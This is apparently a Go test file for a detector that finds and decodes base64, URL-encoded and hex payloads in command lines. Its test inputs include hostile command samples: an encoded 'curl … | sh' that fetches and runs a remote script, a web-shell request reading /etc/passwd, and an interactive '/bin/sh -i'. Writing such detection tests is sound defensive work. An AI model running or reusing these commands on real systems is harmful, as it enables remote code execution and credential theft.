package backend

import (
	"slices"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestFindPayloads(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want []Payload // Encoding, Raw, Decoded; Nested checked when given
	}{
		{"base64 piped to a shell", "sh -c echo Y3VybCAtcyBodHRwOi8vMTAuMC4wLjEveC5zaCB8IHNo | base64 -d | sh",
			[]Payload{{Encoding: "base64", Raw: "Y3VybCAtcyBodHRwOi8vMTAuMC4wLjEveC5zaCB8IHNo", Decoded: "curl -s http://10.0.0.1/x.sh | sh"}}},
		{"padded base64", "python3 -c exec(__import__('base64').b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))",
			[]Payload{{Encoding: "base64", Raw: "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik=", Decoded: `import os; os.system("id")`}}},
		{"URL-encoded query", "curl http://shop/cmd.php?c=cat%20%2Fetc%2Fpasswd%3Bid",
			[]Payload{{Encoding: "url", Raw: "http://shop/cmd.php?c=cat%20%2Fetc%2Fpasswd%3Bid", Decoded: "http://shop/cmd.php?c=cat /etc/passwd;id"}}},
		{"escaped hex", `printf \x2f\x62\x69\x6e\x2f\x73\x68\x20\x2d\x69`,
			[]Payload{{Encoding: "hex", Raw: `\x2f\x62\x69\x6e\x2f\x73\x68\x20\x2d\x69`, Decoded: "/bin/sh -i"}}},
		{"plain hex", "xxd -r -p <<< 2f62696e2f6261736820",
			[]Payload{{Encoding: "hex", Raw: "2f62696e2f6261736820", Decoded: "/bin/bash "}}},
		{"nested: base64 inside a URL", "wget http://x/?p=ZWNobyBwd25lZCA%2BIC90bXAvZmxhZw%3D%3D",
			[]Payload{{Encoding: "url", Raw: "http://x/?p=ZWNobyBwd25lZCA%2BIC90bXAvZmxhZw%3D%3D", Decoded: "http://x/?p=ZWNobyBwd25lZCA+IC90bXAvZmxhZw==",
				Nested: []Payload{{Encoding: "base64", Raw: "ZWNobyBwd25lZCA+IC90bXAvZmxhZw==", Decoded: "echo pwned > /tmp/flag"}}}}},
		{"ordinary command line", "/usr/bin/python3 /opt/app/manage.py runserver 0.0.0.0:8000", nil},
		{"a container ID is not a payload", "runc --root /run/containerd/runc/k8s.io 3f2a9c0d1e2f3a4b5c6d7e8f9a0b1c2d", nil},
		{"a long path segment is not base64", "/var/lib/kubelet/pods/volumes/kubernetes.io~projected/kube-api-access", nil},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := FindPayloads(tc.in)
			if len(got) != len(tc.want) {
				t.Fatalf("got %d payloads %+v, want %d %+v", len(got), got, len(tc.want), tc.want)
			}
			for i, w := range tc.want {
				g := got[i]
				if g.Encoding != w.Encoding || g.Raw != w.Raw || g.Decoded != w.Decoded {
					t.Errorf("payload %d: %+v, want %+v", i, g, w)
				}
				if w.Nested != nil && (len(g.Nested) != len(w.Nested) || g.Nested[0].Decoded != w.Nested[0].Decoded) {
					t.Errorf("nested %+v, want %+v", g.Nested, w.Nested)
				}
			}
		})
	}
}

func TestFindPayloadsBounded(t *testing.T) {
	many := strings.Repeat("Y3VybCAtcyBodHRwOi8vMTAuMC4wLjEveC5zaCB8IHNo"+"QQ ", 200) // distinct enough? same raw: de-duplicated
	if got := FindPayloads(many); len(got) != 1 {
		t.Errorf("repeats: %d payloads, want 1", len(got))
	}
	var b strings.Builder
	for i := range 100 {
		b.WriteString("echo " + strings.Repeat(string(rune('a'+i%26)), 3) + "Y3VybCAtcyBodHRwOi8vMTAuMC4wLjEveC5zaCB8IHNo ")
	}
	if got := FindPayloads(b.String()); len(got) > maxPayloads {
		t.Errorf("%d payloads, bound is %d", len(got), maxPayloads)
	}
}

// FuzzFindPayloads: any command line, without panic, within the bounds,
// and every decoding valid UTF-8 that came from the raw text.
func FuzzFindPayloads(f *testing.F) {
	for _, s := range []string{"echo Y3VybCAtcyBodHRwOi8vMTAuMC4wLjEveC5zaCB8IHNo | base64 -d", "a%20b%2Fc%3Fd",
		`\x2f\x62\x69\x6e\x2f\x73\x68`, "2f62696e2f6261736820", "%", "====", "\xff\xfe%41%42%43%44"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		var check func(ps []Payload, in string, depth int)
		check = func(ps []Payload, in string, depth int) {
			if len(ps) > maxPayloads || depth >= maxPayloadDepth {
				t.Fatalf("%d payloads at depth %d", len(ps), depth)
			}
			for _, p := range ps {
				if !utf8.ValidString(p.Decoded) || !strings.Contains(in, p.Raw) || !slices.Contains([]string{"base64", "url", "hex"}, p.Encoding) {
					t.Fatalf("bad payload %+v from %q", p, in)
				}
				check(p.Nested, p.Decoded, depth+1)
			}
		}
		check(FindPayloads(s), s, 0)
	})
}
